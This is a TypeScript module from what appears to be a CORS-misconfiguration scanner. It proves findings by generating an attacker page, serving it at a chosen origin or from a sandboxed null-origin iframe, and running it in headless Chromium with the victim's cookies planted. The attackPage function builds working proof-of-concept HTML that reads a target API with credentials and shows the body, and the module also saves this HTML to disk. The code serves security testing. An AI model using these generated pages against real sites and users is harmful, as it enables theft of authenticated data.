/**
 * Browser proof (`--verify`): the attacker page a finding implies, run in real headless Chromium (Debian's
 * build driven by playwright-core) with a fresh profile. The page is served at the attacker origin by
 * route interception (no DNS, no listener), the victim's cookies (`--cookie`) are planted for the target,
 * third-party cookies are allowed in the profile (as in a default desktop Chrome), and local-network access
 * is granted so a public origin may call a loopback target. `Origin: null` comes from a sandboxed iframe.
 * The page reports whether it read the body, its status and length; the excerpt is redacted. The same page
 * is written to the report folder for the user to open. Never throws: a browser that cannot start is a
 * sentence.
 */
import { mkdtempSync, mkdirSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { redact, type BrowserProof } from '../findings/index.ts';

export const CHROMIUM_PATHS = ['/usr/lib/chromium/chromium', '/usr/lib/chromium-browser/chromium-browser'];

export interface VictimCookie {
  name: string;
  value: string;
  /** As the target set it (Set-Cookie) or the code writes it, when known; otherwise None is assumed and the proof says so. */
  sameSite?: string;
  /** Where the SameSite came from, for the proof's record. */
  source?: string;
}

export interface Attack {
  /** The Origin the page is served at (`https://x1.com`, `null`). */
  origin: string;
  url: string;
  /** `fetch(url, {credentials: "include"})`; otherwise `omit` (an anonymous read). */
  credentials: boolean;
  /** A name for the PoC file (`live-cors-reflected-origin`, `cross-origin-bola`). */
  label: string;
}

export interface Verifier {
  verify(attack: Attack): Promise<BrowserProof>;
  close(): Promise<void>;
}

const EXCERPT = 240;

/** The attacker page: fetches the target from its own origin and shows what it read. Self-contained. */
export function attackPage(a: Attack): string {
  const fetchCode = `fetch(${JSON.stringify(a.url)}, { credentials: ${JSON.stringify(a.credentials ? 'include' : 'omit')} })
      .then(async (r) => { const body = await r.text(); report({ readable: true, status: r.status, bytes: body.length, body }); })
      .catch((e) => report({ readable: false, error: String(e) }));`;
  const title = `crossread proof: ${a.label}`;
  const explain = `Serve this page from ${a.origin === 'null' ? 'any origin (it reads from a sandboxed iframe, whose Origin is null)' : a.origin} and open it in a browser where you are logged in to the API: it reads ${a.url} ${a.credentials ? 'with your cookies' : 'without credentials'} and shows what it got.`;
  const inner = `<script>function report(x){parent.postMessage(x,'*')}${fetchCode}</script>`;
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>${escapeHtml(title)}</title></head>
<body>
<h1>${escapeHtml(title)}</h1>
<p>${escapeHtml(explain)}</p>
<pre id="out">reading…</pre>
<script>
  function report(x) {
    window.__result = x;
    document.getElementById('out').textContent = x.readable ? 'read ' + x.bytes + ' characters (HTTP ' + x.status + '):\\n' + x.body.slice(0, 2000) : 'not readable: ' + x.error;
  }
  ${
    a.origin === 'null'
      ? `window.addEventListener('message', (e) => report(e.data));
  const f = document.createElement('iframe');
  f.setAttribute('sandbox', 'allow-scripts');
  f.srcdoc = ${JSON.stringify(inner).replace(/<\//g, '<\\/')};
  document.body.append(f);`
      : fetchCode
  }
</script>
</body></html>
`;
}

function escapeHtml(s: string): string {
  return s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!);
}

/**
 * The origin the page is served at. A null-origin attack runs in a sandboxed iframe inside a page on
 * `localhost`: an opaque origin cannot be granted local-network access, so the outer page sits in the
 * loopback address space itself (a different site from 127.0.0.1, so cookies still go cross-site).
 */
const servedAt = (origin: string): string => (origin === 'null' ? 'http://localhost:9' : origin);

export async function openVerifier(opts: { cookies: VictimCookie[]; pocDir?: string; executablePath?: string; timeoutMs?: number }): Promise<Verifier | { error: string }> {
  const executablePath = opts.executablePath ?? CHROMIUM_PATHS.find((p) => existsSync(p));
  if (!executablePath) return { error: `no Chromium found (looked for ${CHROMIUM_PATHS.join(', ')}); install Debian's chromium package (apt-get install chromium) to verify in a browser` };
  let playwright: typeof import('playwright-core');
  try {
    playwright = await import('playwright-core');
  } catch (e) {
    return { error: `playwright-core is not installed (${(e as Error).message.split('\n')[0]})` };
  }
  const profile = mkdtempSync(join(tmpdir(), 'crossread-browser-'));
  mkdirSync(join(profile, 'Default'), { recursive: true });
  // a default desktop Chrome sends third-party cookies; headless Chromium's profile blocks them unless told
  writeFileSync(join(profile, 'Default', 'Preferences'), JSON.stringify({ profile: { cookie_controls_mode: 0 } }));
  let ctx: import('playwright-core').BrowserContext;
  try {
    ctx = await playwright.chromium.launchPersistentContext(profile, {
      executablePath,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      timeout: 30_000,
    });
    await ctx.grantPermissions(['local-network-access']).catch(() => undefined);
  } catch (e) {
    rmSync(profile, { recursive: true, force: true });
    return { error: `Chromium did not start (${executablePath}): ${(e as Error).message.split('\n')[0]}` };
  }
  const version = `Chromium ${ctx.browser()?.version() ?? ''}`.trim();
  const timeoutMs = opts.timeoutMs ?? 10_000;
  let n = 0;
  return {
    async verify(a: Attack): Promise<BrowserProof> {
      const html = attackPage(a);
      let poc: string | undefined;
      if (opts.pocDir) {
        mkdirSync(opts.pocDir, { recursive: true });
        poc = join(opts.pocDir, `poc-${String(++n).padStart(2, '0')}-${a.label.replace(/[^\w.-]+/g, '-')}.html`);
        writeFileSync(poc, html);
      }
      const target = new URL(a.url);
      const secure = target.protocol === 'https:' || ['127.0.0.1', 'localhost', '[::1]'].includes(target.hostname);
      const planted: string[] = [];
      const base: BrowserProof = { browser: version, origin: a.origin, url: a.url, readable: false, bytes: 0, excerpt: '', cookies: planted, ...(poc ? { poc } : {}) };
      const page = await ctx.newPage();
      const consoleErrors: string[] = [];
      page.on('console', (m) => {
        if (m.type() === 'error' && /CORS|Access-Control|blocked/i.test(m.text())) consoleErrors.push(m.text());
      });
      try {
        await ctx.clearCookies();
        if (a.credentials && opts.cookies.length) {
          await ctx.addCookies(
            opts.cookies.map((c) => {
              const seen = c.sameSite && /^(none|lax|strict)$/i.test(c.sameSite) ? ((c.sameSite[0].toUpperCase() + c.sameSite.slice(1).toLowerCase()) as 'None' | 'Lax' | 'Strict') : undefined;
              const sameSite = seen ?? (secure ? 'None' : 'Lax');
              planted.push(`${c.name} (SameSite=${sameSite}${seen ? `, ${c.source ?? 'as the target sets it'}` : ', assumed: neither the target nor the code showed its attributes'})`);
              return { name: c.name, value: c.value, domain: target.hostname.replace(/^\[|\]$/g, ''), path: '/', sameSite, secure: secure && sameSite === 'None', httpOnly: true };
            }),
          );
        }
        await ctx.unrouteAll();
        const at = servedAt(a.origin).toLowerCase();
        await ctx.route((u) => u.origin.toLowerCase() === at, (r) => r.fulfill({ status: 200, contentType: 'text/html', body: html }));
        await page.goto(`${servedAt(a.origin)}/crossread-proof.html`, { timeout: timeoutMs });
        const handle = await page.waitForFunction(() => (window as unknown as { __result?: unknown }).__result, null, { timeout: timeoutMs });
        const r = (await handle.jsonValue()) as { readable: boolean; status?: number; bytes?: number; body?: string; error?: string };
        const excerpt = redact((r.body ?? '').slice(0, EXCERPT));
        const error = r.readable ? undefined : (consoleErrors[0] ?? r.error);
        return { ...base, readable: !!r.readable, ...(r.status !== undefined ? { status: r.status } : {}), bytes: r.bytes ?? 0, excerpt, ...(error ? { error: redact(error.slice(0, 400)) } : {}) };
      } catch (e) {
        return { ...base, error: `the page did not finish: ${(e as Error).message.split('\n')[0]}` };
      } finally {
        await page.close().catch(() => undefined);
      }
    },
    async close(): Promise<void> {
      await ctx.close().catch(() => undefined);
      rmSync(profile, { recursive: true, force: true });
    },
  };
}

/** `--cookie 'a=b; c=d'` as name/value pairs. */
export function parseCookieHeader(cookie: string | undefined): { name: string; value: string }[] {
  if (!cookie) return [];
  return cookie
    .split(';')
    .map((p) => p.trim())
    .filter((p) => p.includes('='))
    .map((p) => ({ name: p.slice(0, p.indexOf('=')).trim(), value: p.slice(p.indexOf('=') + 1).trim() }))
    .filter((c) => c.name);
}
